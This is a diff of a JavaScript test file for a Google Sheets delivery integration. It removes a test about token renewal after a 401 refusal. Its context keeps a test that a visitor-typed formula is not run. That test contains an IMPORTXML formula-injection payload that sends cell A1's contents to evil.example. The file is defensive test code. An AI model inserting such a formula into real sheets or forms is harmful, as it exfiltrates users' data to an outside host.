@@ -75,20 +75,6 @@ it('a repeat is found in a column larger than a megabyte', async () => {
   expect(vendor.grid).toHaveLength(90_002);
 });
 
-it('a token that Google refuses is renewed once in an attempt, and not again', async () => {
-  const vendor = await startSheets();
-  let refusals = 1;
-  vendor.interrupt = (response, call) => {
-    if (isOf('/token')(call) || refusals === 0) return false;
-    refusals -= 1;
-    return response.writeHead(401).end();
-  };
-  expect(await deliver(vendor)).toEqual(delivered);
-  refusals = 2;
-  expect(await deliver(vendor, second)).toEqual({ kind: 'failed', failure: 'HTTP 401' });
-  expect(vendor.calls.filter(isOf('/token'))).toHaveLength(4);
-});
-
 it('the sheet does not run a formula that a visitor typed', async () => {
   const vendor = await startSheets();
   const formula = '=IMPORTXML("https://evil.example/?"&A1;"//a")';
